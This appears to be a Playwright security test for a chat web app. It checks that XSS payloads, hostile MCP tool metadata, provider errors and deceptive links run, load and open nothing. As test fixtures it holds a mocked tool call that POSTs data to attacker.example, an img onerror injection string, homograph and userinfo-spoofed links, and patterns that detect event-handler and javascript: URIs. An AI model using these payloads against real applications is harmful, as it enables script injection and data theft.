import type { Page } from 'playwright-core';
import { exportedApp } from '../../support/browser/exported-app';
import { flowSizes } from '../../support/browser/open-browser';
import { hostileArchive } from '../../support/samples/hostile-archive';
import { HOSTILE_MESSAGE, HOSTILE_NAME, XSS_PAYLOADS } from '../../support/samples/hostile-markdown';
import { startHostileMcpServer, textResult } from '../../support/servers/hostile-mcp-server';
import { importFile } from '../../support/browser/import-chats';
import { waitUntilStill } from '../../support/browser/wait-for';
import { startMockProvider, type MockProvider } from '../../support/servers/mock-provider';

const app = exportedApp();
const TYPE = 'openai-compatible';

let mock: MockProvider;
let server: Awaited<ReturnType<typeof startHostileMcpServer>>;

beforeAll(async () => {
  mock = await startMockProvider({ chunkSize: 2_000 });
  const input = JSON.stringify({ method: 'POST', url: 'https://attacker.example/asked', body: HOSTILE_MESSAGE });
  const call = { id: 'call_1', name: 'http_request', arguments: input };
  mock.answer({ match: {}, response: { content: [...XSS_PAYLOADS, HOSTILE_MESSAGE].join('\n\n') } }); // titles too
  mock.answer({ match: { userMessage: /tool/, hasToolResult: false }, response: { toolCalls: [call] } });
  mock.answer({
    match: { userMessage: /fail/ },
    response: { error: { message: HOSTILE_MESSAGE, type: HOSTILE_NAME }, status: 400 },
  });
  server = await startHostileMcpServer({
    tools: [{ name: 'harmless', title: HOSTILE_NAME, description: HOSTILE_MESSAGE }, { name: HOSTILE_NAME }],
    onCall: ({ respond }) => respond(textResult(HOSTILE_MESSAGE)),
    onRequest(request, response) {
      for (const name of ['origin', 'headers', 'methods']) response.setHeader(`access-control-allow-${name}`, '*');
      if (request.method === 'OPTIONS') response.writeHead(204).end();
      return request.method === 'OPTIONS';
    },
  });
});
afterAll(async () => {
  await mock.stop();
  await server.stop();
});

/**
 * Records every sign of a successful attack: a script that ran, a dialog, a new window, a request to an unknown host.
 */
async function recordAttacks(page: Page) {
  const events: string[] = [];
  const own = [app.at(), mock.url, new URL(server.url).origin];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (other) => events.push(`window: ${other.url()}`));
  page.on('request', (request) => {
    const url = request.url();
    if (/^https?:/.test(url) && !own.some((origin) => url.startsWith(origin))) events.push(`request: ${url}`);
  });
  await page.exposeFunction('__record', (what: string) => events.push(what));
  await page.addInitScript(`
    window.__pwn = () => window.__record('a script ran');
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
      if (blockedURI !== 'eval') window.__record('CSP: ' + blockedURI); // zod tests once whether eval is allowed
    });
  `);
  await page.reload();
  return events;
}

/** Elements and attributes that text must never turn into. */
const injectedElements = (page: Page) =>
  page.evaluate(() =>
    [...document.body.querySelectorAll('*')].flatMap((element) => {
      const isForeign = /^(IFRAME|OBJECT|EMBED|FORM|MARQUEE|TEMPLATE|META|BASE)$/i.test(element.tagName);
      const bad = [...element.attributes].filter(
        ({ name, value }) =>
          /^on/i.test(name) ||
          (/^(src|srcset|href|xlink:href|action|poster|data)$/i.test(name) &&
            /attacker\.example|^\s*(javascript|vbscript|data:text)/i.test(value)),
      );
      return isForeign || bad.length > 0 ? [element.outerHTML.slice(0, 200)] : [];
    }),
  );

const open = app.share((screen: 'phone' | 'wide') => app.open('/', { screen }));

it.each(flowSizes('phone'))('hostile text from any source runs, loads and opens nothing (%s)', async (screen) => {
  const opened = await open(screen);
  opened.expectOutput(/status of 400/); // the mock provider fails one request on purpose
  const { page, user } = opened;
  const events = await recordAttacks(page);
  const expectNoAttack = async (where: string) => {
    await waitUntilStill(page);
    expect({ where, planted: await injectedElements(page), events }).toEqual({ where, planted: [], events: [] });
  };
  const visit = async (path: string, testId: string) => {
    await user.visit(path);
    await user.id(testId).first().waitFor();
    await expectNoAttack(path);
  };

  await importFile(opened, hostileArchive());
  await expectNoAttack('the import');
  await visit('/', 'session-item');
  await visit('/memory', 'memory-note');
  await visit('/settings/templates', 'template-item');
  await visit('/settings/agents', 'agent-item');
  await visit('/settings/tools', 'mcp-server');

  await page.goto(app.at('/search')); // from here on all stored text is loaded again
  await user.id('search-input').fill('needle');
  await user.id('search-result').first().waitFor();
  await expectNoAttack('search');
  await user.id('search-result').first().click();
  await user.id('message-user').first().waitFor();
  for (const toggle of ['thinking', 'tool-toggle', 'view-summary']) {
    await user.id(toggle).first().scrollIntoViewIfNeeded();
    await user.id(toggle).first().click();
    await expectNoAttack(toggle);
  }
  await page.keyboard.press('Escape');
  for (let step = 0; step < 4; step += 1) {
    await user
      .id('message-user')
      .first()
      .hover({ force: true })
      .catch(() => undefined);
    await page.mouse.wheel(0, 3_000);
    await expectNoAttack('the imported chat');
  }

  await user.visit('/settings/tools');
  await user.id('mcp-add').click();
  await user.id('mcp-url').fill(server.mcpUrl);
  await user.id('mcp-save').click();
  await user.id('mcp-tool-harmless').waitFor();
  for (const toggle of ['mcp-tool-toggle', 'mcp-schema-toggle']) {
    for (const each of await user.id(toggle).all()) await each.click();
  }
  await expectNoAttack('the tools of a server');

  await user.visit('/settings/providers');
  await user.chatWith(
    { type: TYPE, baseUrl: mock.baseUrlFor(TYPE), apiKey: 'sk-x', name: HOSTILE_NAME.slice(0, 60) },
    'm<img src=x onerror=__pwn()>',
    500_000,
  );
  await user.send('Say something');
  await user.id('message-assistant').first().waitFor();
  await user.waitUntilIdle();
  await expectNoAttack('an answer');
  await user.send('Please fail');
  await user.waitUntilIdle();
  await expectNoAttack('an error of the provider');
  await user.send('Use a tool');
  await user.id('deny-tool').waitFor();
  await expectNoAttack('a call that waits');
  await visit('/', 'session-item');
});

it('a link shows its real host, and an address that hides its host is not a link', async () => {
  const { user } = await open('phone');
  await user.visit('/settings/providers');
  const words =
    '[look](https://аpple.com/x), [here](https://google.com@evil.example/), [there](https://exa\u200bmple.com/)';
  mock.answer({ match: { userMessage: /look/ }, response: { content: words } });
  await user.chatWith({ type: TYPE, baseUrl: mock.baseUrlFor(TYPE), apiKey: 'sk-x' }, 'some-model', 500_000);
  await user.send('look');
  await user.waitForAnswer('look');
  await user.waitUntilIdle();
  expect(await user.id('markdown-link').allInnerTexts()).toEqual(['look']);
  await user.id('markdown-link').click();
  expect(await user.id('link-host').innerText()).toBe('xn--pple-43d.com');
});
